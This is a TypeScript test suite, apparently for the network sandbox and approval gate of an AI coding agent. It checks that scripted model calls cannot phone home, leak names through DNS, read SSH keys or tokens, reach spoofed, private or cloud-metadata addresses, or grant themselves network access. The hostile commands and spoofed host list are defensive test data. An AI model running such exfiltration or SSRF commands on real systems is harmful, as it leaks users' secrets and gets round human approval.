import assert from 'node:assert/strict';
import * as fs from 'node:fs';
import * as http from 'node:http';
import * as net from 'node:net';
import * as path from 'node:path';
import { ShellCommands } from '../../src/adapters/process/shellCommands';
import type { ScriptedTurn } from '../../src/adapters/models/scriptPlayer';
import type { HostUse } from '../../src/protocol';
import { openRepositoryRules } from '../../src/adapters/store/diskApprovalRules';
import type { PermissionFile, RepositoryRules } from '../../src/core/approvals/approvalPorts';
import { grammarFolder } from '../fakes/grammarFolder';
import { prepareTask } from '../fakes/preparedTask';
import { removeFolder } from '../fakes/temporaryFolder';
import { AskingRunner } from './askingRunner';
import { SandboxRig } from './sandboxRig';

/** What the names of these tests lead to: all of them to this machine or its like, so that a hit is seen. */
const names: Record<string, string[]> = {
  'docs.python.org': ['127.0.0.1'],
  'docs.python.org.evil': ['127.0.0.1'],
  'rebound.example': ['10.0.0.1', '127.0.0.1', '::1'],
  'mapped.example': ['::ffff:127.0.0.1'],
  'metadata.example': ['169.254.169.254'],
};

type Change = (rules: RepositoryRules, file: PermissionFile) => Promise<void>;
type Use = Omit<HostUse, 'times'>;

describe('the network of a command under attack', () => {
  let rig: SandboxRig;
  let commands: ShellCommands;
  let canary: http.Server;
  let port: number;
  let hits: string[];
  let lookedUp: string[];
  let grammars: string;

  before(async () => {
    grammars = await grammarFolder();
    canary = http.createServer((request, response) => {
      hits.push(`${request.headers.host ?? ''}${request.url ?? ''}`);
      if (request.url === '/moved') {
        response.writeHead(302, { Location: `http://127.0.0.1:${port}/stolen` });
      }
      response.end('reached');
    });
    canary.on('connect', (request) => hits.push(`tunnel ${request.url ?? ''}`));
    await new Promise<void>((resolve) => canary.listen(0, resolve));
    port = (canary.address() as net.AddressInfo).port;
  });
  after(async () => {
    canary.close();
    await removeFolder(grammars);
  });
  before(() => (process.env['GITHUB_TOKEN'] = 'canary-token'));
  after(() => delete process.env['GITHUB_TOKEN']);

  beforeEach(async () => {
    [hits, lookedUp] = [[], []];
    rig = new SandboxRig('network');
    commands = await ShellCommands.open({
      ...{ ...rig.sandbox, taskId: rig.taskId },
      lookup: (name) => {
        lookedUp.push(name);
        return Promise.resolve(names[name] ?? []);
      },
    });
    assert.equal(await commands.hostsComplaint(), null);
    lookedUp = [];
  });
  afterEach(() => rig.dispose());

  async function run(command: string, allow?: string[], inside: string[] = []) {
    const uses: Use[] = [];
    const { output, exitCode } = await commands.run(command, {
      ...{ network: false, signal: new AbortController().signal, timeoutMs: 60_000, onOutput: () => undefined },
      ...(allow === undefined ? {} : { hosts: { allow, inside, deny: [] } }),
      onHost: (use) => uses.push(use),
      outputFile: rig.at('out.log'),
    });
    return { output, exitCode, uses };
  }

  /** A task in the sandbox whose model makes these calls. */
  async function notStarted(...turns: ScriptedTurn[]): Promise<AskingRunner> {
    const prepared = await prepareTask({ 'README.md': 'hello\n' }, { verify: null, isolation: 'sandbox' });
    return new AskingRunner(prepared, [...turns, {}], { grammars });
  }

  async function asks(...turns: ScriptedTurn[]): Promise<AskingRunner> {
    const asking = await notStarted(...turns);
    asking.start();
    return asking;
  }

  const turn = (tool: string, input: Record<string, unknown>): ScriptedTurn => ({ calls: [{ tool, input }] });

  it('X01: an injected command that phones home finds no network, and a request for one goes to a person', async () => {
    const curl = `curl -s --max-time 5 http://127.0.0.1:${port}/stolen`;
    const asking = await asks(
      turn('shell', { command: `${curl} --noproxy '*'; ${curl} -x http://127.0.0.1:${port}` }),
      turn('shell_network', { command: curl, reason: 'docs', hosts: [`127.0.0.1:${port}`] }),
    );
    const request = await asking.asked(1);
    assert.deepEqual([request.command, request.reach?.hosts, hits], [curl, [`127.0.0.1:${port}`], []]);
    asking.answer(request, { kind: 'deny' });
    await asking.finished();
    await asking.close();
    assert.deepEqual(hits, []);
  });

  it('X03: no name leaves the sandbox, whether or not it may reach hosts', async () => {
    const resolve = `node -e "const d=require('dns');d.lookup('stolen-secret.docs.python.org',e=>console.log(e.code));d.resolve4('stolen-secret.docs.python.org',e=>console.log(e.code))"`;
    for (const allow of [undefined, ['docs.python.org']]) {
      const { output } = await run(
        `${resolve}; getent hosts stolen-secret.docs.python.org; ping -c1 -W1 127.0.0.2; cat /proc/net/route`,
        allow,
      );
      assert.match(output, /^(E[A-Z_]+\n){2}/);
      assert.doesNotMatch(output, /1 received/);
      assert.deepEqual(output.match(/^\w+\t[0-9A-F]{8}\t/gm), null);
    }
    const asked = await run('curl -s http://stolen-secret.docs.python.org/', ['docs.python.org']);
    assert.deepEqual(asked.uses, [{ host: 'stolen-secret.docs.python.org', port: 80, blocked: 'unlisted' }]);
    assert.deepEqual(lookedUp, []);
  });

  it('X07: nothing that only looks like an allowed host is reached, in any spelling and by any way', async () => {
    const allow = [`docs.python.org:${port}`, `198.51.100.7:${port}`];
    const places = [
      ...['docs.python.org.evil', 'evil-docs.python.org', 'x.docs.python.org', 'docs.python.org.evil.', '2130706433'],
      ...['0x7f000001', '0177.0.0.1', '127.1', '127.0.0.1', 'localhost', '[::1]', '[::ffff:7f00:1]', '0.0.0.0', '[::]'],
      ...[
        '169.254.169.254',
        'docs.python.org@127.0.0.1',
        'docs.python.org%00.evil',
        'docs.python.org#.evil',
        'ⓔvil.example',
      ],
    ];
    const targets = places.map((place) => JSON.stringify(`${place}:${port}`));
    // Straight to the proxy, so that no client tidies the address up before.
    const knock = `const net=require('net');(async()=>{for(const t of [${targets.join()}])for(const line of ['CONNECT '+t,'GET http://'+t+'/stolen'])
      await new Promise(r=>{const s=net.connect(20000,'127.0.0.1',()=>s.write(line+' HTTP/1.1\\r\\nHost: docs.python.org:${port}\\r\\n\\r\\n'));
      s.on('data',d=>{console.log(String(d).split(' ')[1]);s.destroy()});s.on('error',()=>{});s.on('close',r)})})()`;
    fs.writeFileSync(path.join(rig.worktree, 'knock.js'), knock);
    const { output, uses } = await run('node knock.js', allow);
    const answers = new Set(output.trim().split('\n'));
    assert.deepEqual(
      [...answers].filter((status) => status !== '403' && status !== '400'),
      [],
    );
    assert.equal(output.trim().split('\n').length, 2 * places.length);
    assert.deepEqual([hits, lookedUp, uses.filter(({ blocked }) => blocked === undefined)], [[], [], []]);
  });

  it('X07: a name that leads to this machine, a private network or a cloud is refused, and looked up once', async () => {
    const hosts = ['docs.python.org', 'rebound.example', 'mapped.example', 'metadata.example'];
    const allow = hosts.map((host) => `${host}:${port}`);
    const curls = hosts.map((host) => `curl -s http://${host}:${port}/; curl -s -p http://${host}:${port}/`);
    const { uses } = await run(curls.join('; '), allow);
    assert.deepEqual(
      uses,
      hosts.flatMap((host) => Array<Use>(2).fill({ host, port, blocked: 'private' })),
    );
    assert.deepEqual([hits, lookedUp], [[], hosts.flatMap((host) => [host, host])]);
  });

  it('X07: a redirect is looked at like any request', async () => {
    const allow = [`docs.python.org:${port}`];
    const { uses } = await run(`curl -s -L --noproxy '' http://docs.python.org:${port}/moved`, allow, allow);
    assert.deepEqual(hits, [`docs.python.org:${port}/moved`]);
    assert.deepEqual(uses, [
      { host: 'docs.python.org', port },
      { host: '127.0.0.1', port, blocked: 'unlisted' },
    ]);
  });

  it('X07: what a request says of its host beside its address changes nothing', async () => {
    const allow = [`docs.python.org:${port}`];
    await run(`curl -s -H 'Host: evil.example' http://docs.python.org:${port}/a`, allow, allow);
    assert.deepEqual(hits, [`docs.python.org:${port}/a`]);
  });

  it('X08: no token of the user is there to be posted to an allowed host, and another one is asked about', async () => {
    const { output } = await run('env; cat ~/.ssh/id_ed25519 ~/.npmrc; ls -A ~/.ssh', ['docs.python.org']);
    assert.doesNotMatch(output, /canary/);
    const asking = await asks(
      turn('shell_network', { command: 'true', reason: 'a', hosts: ['api.github.com'] }),
      turn('shell_network', { command: 'true', reason: 'b', hosts: ['api.github.com'] }),
      turn('shell_network', { command: 'true', reason: 'c', hosts: ['api.github.com', 'gist.github.com'] }),
      turn('shell_network', { command: 'true', reason: 'd' }),
    );
    asking.answer(await asking.asked(1), { kind: 'allow', hosts: 'task' });
    asking.answer(await asking.asked(2), { kind: 'deny' });
    asking.answer(await asking.asked(3), { kind: 'deny' });
    await asking.finished();
    await asking.close();
    assert.deepEqual(
      asking.requests.map(({ reach }) => reach?.hosts),
      [['api.github.com'], ['api.github.com', 'gist.github.com'], []],
    );
  });

  it('T02: hosts that a repository’s own file allows count after a consent, for exactly that text, and no longer', async () => {
    const call = turn('shell_network', { command: 'true', reason: 'a', hosts: ['a.example'] });
    const runs = async (answers: number, change: Change) => {
      const asking = await notStarted(call);
      const { root, commonDir } = asking.prepared.spec.workspace.repos[0];
      const text = '{"networkPolicy": {"allow": ["a.example", "*"]}, "additionalReadwritePaths": ["/"]}';
      const place = path.join(root, '.cursor', 'sandbox.json');
      fs.mkdirSync(path.dirname(place), { recursive: true });
      fs.writeFileSync(place, text);
      const dataDirectory = path.join(asking.prepared.repo.folder, 'data');
      const rules = openRepositoryRules({ root, commonDir, dataDirectory, home: null });
      const [file] = (await rules.list()).files;
      assert.ok(file !== undefined);
      await change(rules, file);
      asking.start();
      if (answers > 0) {
        asking.answer(await asking.asked(1), { kind: 'deny' });
      }
      await asking.finished();
      await asking.close();
      const listed = asking.requests.map(({ facts }) => facts.at(-1));
      return { asked: listed, ...file.permissions };
    };
    const consented = await runs(0, (rules, file) => rules.consent(file, true));
    const { asked, allowHosts, allow, allowWrite } = consented;
    assert.deepEqual([asked, allowHosts, allow, allowWrite], [[], ['a.example'], [], []]);
    assert.deepEqual(consented.unused, ['.cursor/sandbox.json: "*" is no host that can be allowed.']);
    const said =
      '.cursor/sandbox.json of this repository lists a.example. “Allowed Commands of This Repository” lets that file count.';
    const others: Change[] = [
      () => Promise.resolve(),
      (rules, file) =>
        rules.consent({ ...file, digest: file.digest.replace(/^./, (digit) => (digit === '0' ? '1' : '0')) }, true),
      (rules, file) => rules.consent({ ...file, path: '.cursor/permissions.json' }, true),
      async (rules, file) => {
        await rules.consent(file, true);
        await rules.consent(file, false);
      },
    ];
    for (const other of others) {
      assert.deepEqual((await runs(1, other)).asked, [said]);
    }
  });

  it('C15: what can’t be taken back asks each time, also where its hosts were allowed for the task', async () => {
    const push = (command: string) => turn('shell_network', { command, reason: 'a', hosts: ['git.example'] });
    const asking = await asks(push('true'), push('true'), push('git push --force https://git.example/x main'));
    asking.answer(await asking.asked(1), { kind: 'allow', hosts: 'task' });
    asking.answer(await asking.asked(2), { kind: 'deny' });
    await asking.finished();
    await asking.close();
    assert.deepEqual(
      asking.requests.map(({ command }) => command),
      ['true', 'git push --force https://git.example/x main'],
    );
  });

  it('C13: what listens in the sandbox can’t be reached from outside, on any address', async () => {
    const free = net.createServer().listen(0);
    const { port: theirs } = free.address() as net.AddressInfo;
    await new Promise((resolve) => free.close(resolve));
    let reached = false;
    const knocking = setInterval(() => {
      net.connect(theirs, '127.0.0.1', () => (reached = true)).on('error', () => undefined);
    }, 20);
    const listen = `node -e "require('net').createServer(s=>{console.log('outside');s.end()}).listen(${theirs},'0.0.0.0',()=>{console.log('listens');setTimeout(()=>process.exit(),1000)})"`;
    const { output } = await run(listen, ['docs.python.org']);
    clearInterval(knocking);
    assert.deepEqual([output, reached], ['listens\n', false]);
  });

  it('C16: a model can’t grant itself the network: fields that no tool has are refused', async () => {
    const command = `curl -s --max-time 5 http://127.0.0.1:${port}/stolen`;
    const asking = await asks(
      turn('shell', { command, network: true }),
      turn('shell_network', { command, reason: 'x', hosts: [`127.0.0.1:${port}`], approved: true }),
      turn('shell_network', { command, reason: 'x', hosts: [`127.0.0.1:${port}`], inside: ['*'] }),
    );
    await asking.finished();
    await asking.close();
    const results = asking.events.flatMap((event) => (event.type === 'tool.result' ? [event.invalid] : []));
    assert.deepEqual([results, asking.requests, hits], [[true, true, true], [], []]);
  });

  it('C15: one gate is out of the reach of every other command', async () => {
    const other = `node -e "const fs=require('fs');for(const f of ['/tmp','/var/tmp','/run'])for(const n of fs.readdirSync(f))console.log(n)"`;
    const held = commands.run(`until [ -e go ]; do sleep 0.05; done; curl -s http://docs.python.org:${port}/`, {
      ...{ network: false, signal: new AbortController().signal, timeoutMs: 60_000, onOutput: () => undefined },
      hosts: { allow: [`docs.python.org:${port}`], inside: [`docs.python.org:${port}`], deny: [] },
      outputFile: rig.at('held.log'),
    });
    const { output } = await run(`${other}; curl -s http://docs.python.org:${port}/; touch go`);
    assert.doesNotMatch(output, new RegExp(`background-agents-hosts-${process.pid}-|reached`));
    assert.equal((await held).output, 'reached');
    assert.equal(hits.length, 1);
  });
});
